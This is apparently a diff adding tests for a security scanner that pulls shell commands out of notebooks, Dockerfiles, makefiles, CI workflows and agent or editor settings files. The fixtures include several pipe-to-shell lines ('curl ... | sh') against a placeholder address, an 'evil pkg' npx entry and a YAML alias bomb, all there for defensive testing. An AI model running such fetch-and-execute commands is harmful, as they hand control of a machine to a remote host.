@@ -1,0 +1,138 @@
+import { describe, expect, it } from 'vitest';
+import type { FrontEndResult } from '../../../scanner/frontend.ts';
+import { analyseBuildFile } from '../../../scanner/frontends/dockerfile.ts';
+import { analyseJson } from '../../../scanner/frontends/json.ts';
+import { languageOf } from '../../../scanner/language.ts';
+import { rawOffset } from '../../../scanner/source.ts';
+import { Steps } from '../../../scanner/steps.ts';
+
+function analyse(path: string, text: string): FrontEndResult {
+  const language = languageOf(path, text);
+  const front = language === 'dockerfile' || language === 'makefile' ? analyseBuildFile : analyseJson;
+  return front([{ path, file: path, language, text, context: 'code', depth: 0 }], { files: new Set([path]), steps: new Steps() });
+}
+
+const programs = (path: string, text: string): string[] =>
+  analyse(path, text).embedded.map((one) => `${one.language}: ${one.text.trim().replaceAll('\0', '?')}`);
+
+describe('a notebook', () => {
+  const cell = (type: string, ...source: readonly string[]): object => ({ cell_type: type, source });
+  const notebook = (cells: readonly object[], language = 'python'): string =>
+    JSON.stringify({ nbformat: 4, metadata: { kernelspec: { language } }, cells }, null, 1);
+
+  it('gives its code, the commands in it, and its text to their front ends', () => {
+    const text = notebook([
+      cell('markdown', '# Title\n', 'Text.'),
+      cell(
+        'code',
+        'import os\n',
+        '!curl -s https://203.0.113.7/x | sh\n',
+        'files = !ls\n',
+        '%pip install requests\n',
+        'print(1)',
+      ),
+      cell('code', '%%bash\n', 'id -u\n'),
+    ]);
+    expect(programs('a.ipynb', text)).toEqual([
+      'markdown: # Title\nText.',
+      'python: import os\npass\nfiles = None\npass\nprint(1)',
+      'shell: curl -s https://203.0.113.7/x | sh\nls\npip install requests',
+      'shell: id -u',
+    ]);
+  });
+
+  it('may be in another language, of an older form, or have outputs that act', () => {
+    expect(programs('a.ipynb', notebook([cell('code', 'system("id")')], 'R'))).toEqual(['r: system("id")']);
+    const old = { worksheets: [{ cells: [{ cell_type: 'code', input: ['x = 1\n', 'y = 2'] }] }] };
+    expect(programs('a.ipynb', JSON.stringify(old))).toEqual(['python: x = 1\ny = 2']);
+    const output = { cell_type: 'code', source: 'x', outputs: [{ data: { 'text/html': ['<script>', 'f()</script>'] } }] };
+    expect(programs('a.ipynb', notebook([output]))).toEqual(['python: x', 'html: <script>', 'html: f()</script>']);
+  });
+
+  it('keeps the place of each line', () => {
+    const text = notebook([cell('code', 'import os\n', '    !id -u\n', 'evil("x")\n')]);
+    const [python, shell] = analyse('a.ipynb', text).embedded;
+    const at = (program: typeof python, word: string): number => rawOffset(program?.map ?? [], program?.text.indexOf(word) ?? 0);
+    expect(text.slice(at(python, 'evil')).startsWith('evil(')).toBe(true);
+    expect(text.slice(at(shell, 'id')).startsWith('id -u')).toBe(true);
+  });
+
+  it('that is no JSON was not analysed', () => {
+    expect(analyse('a.ipynb', '{"cells": [').unanalysed).toHaveLength(1);
+  });
+});
+
+describe('a file that builds', () => {
+  it('gives the commands of a Dockerfile, whatever their form', () => {
+    const text =
+      'FROM node:22 AS build\n# note\nRUN apt-get update \\\n  # in between\n  && curl -s https://203.0.113.7/x | sh\n' +
+      'RUN --mount=type=cache,target=/x ["sh", "-c", "id -u"]\nRUN <<EOF\nwhoami\nEOF\nADD https://203.0.113.7/a.tgz /a\n' +
+      'FROM build\nFROM x@sha256:' +
+      '0'.repeat(64) +
+      '\nHEALTHCHECK --interval=5s CMD curl -f http://localhost/\nCMD node a.js\n';
+    const result = analyse('Dockerfile', text);
+    expect(result.embedded.map((one) => one.text.trim())).toEqual([
+      'apt-get update \\\n  # in between\n  && curl -s https://203.0.113.7/x | sh',
+      "sh -c 'id -u'",
+      '<<EOF\nwhoami\nEOF',
+      'curl -f http://localhost/',
+      'node a.js',
+    ]);
+    const images = result.facts.flatMap((fact) =>
+      fact.kind === 'dependency' ? [`${fact.name} ${fact.version} ${fact.pinned}`] : [],
+    );
+    expect(images).toEqual(['node 22 false', 'x  true']);
+    expect(result.facts.some((fact) => fact.kind === 'capability' && fact.api === 'ADD')).toBe(true);
+  });
+
+  it('gives the recipes of a makefile with its variables in place', () => {
+    const text =
+      'URL := https://203.0.113.7\n# what it is\nall: a b\n\t@curl $(URL)/x | sh\n\techo $$HOME $@\nV = $(shell id -u)\n';
+    expect(programs('Makefile', text)).toEqual(['shell: curl https://203.0.113.7/x | sh\necho $HOME ?', 'shell: id -u']);
+  });
+});
+
+describe('settings that hold commands', () => {
+  it.each<[string, string, readonly string[]]>([
+    [
+      '.github/workflows/ci.yml',
+      'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
+      ['shell: npm ci\nnpm test'],
+    ],
+    ['.github/workflows/ci.yml', 'jobs:\n  a:\n    steps:\n      - run: iwr x\n        shell: pwsh\n', ['powershell: iwr x']],
+    ['.gitlab-ci.yml', 'a: &x\n  script:\n    - id -u\nb:\n  <<: *x\n', ['shell: id -u', 'shell: id -u']],
+    [
+      '.pre-commit-config.yaml',
+      'repos:\n  - hooks:\n      - id: a\n        entry: bash -c "id -u"\n',
+      ['shell: bash -c "id -u"'],
+    ],
+    [
+      'docker-compose.yml',
+      'services:\n  a:\n    command: ["sh", "-c"]\n    entrypoint: run me\n',
+      ['shell: sh', 'shell: -c', 'shell: run me'],
+    ],
+    ['.mcp.json', '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "evil pkg"]}}}', ["shell: npx -y 'evil pkg'"]],
+    ['.vscode/tasks.json', '{"tasks": [{"command": "curl", "args": ["x"]}]}', ['shell: curl x']],
+    ['.devcontainer/devcontainer.json', '{"postCreateCommand": {"a": "id -u"}}', ['shell: id -u']],
+    ['.devcontainer/devcontainer.json', '{"postCreateCommand": "id -u"}', ['shell: id -u']],
+    ['.claude/settings.json', '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "id -u"}]}]}}', ['shell: id -u']],
+    ['pyproject.toml', '[tool.poe.tasks]\ntest = "id -u"\n', ['shell: id -u']],
+    ['a.yaml', 'install: Read the text\ncommands: [a, b]\n', []],
+  ])('give them to the shell: %s', (path, text, expected) => {
+    expect(programs(path, text).slice(0, 4)).toEqual(expected);
+  });
+
+  it('are not analysed where they cannot be read', () => {
+    expect(analyse('.github/workflows/a.yml', 'a: [\n').unanalysed).toHaveLength(1);
+    expect(analyse('notes.yml', 'a: [\n').unanalysed).toEqual([]);
+    expect(analyse('.github/workflows/a.yml', `a: ${'x'.repeat(600_000)}`).unanalysed).toHaveLength(1);
+  });
+
+  it('with aliases of aliases come to an end', () => {
+    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
+      .split('')
+      .map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[index]}`).join(',')}]`)
+      .join('\n')}\n`;
+    expect(analyse('.github/workflows/a.yml', bomb).unanalysed).toHaveLength(1);
+  });
+});
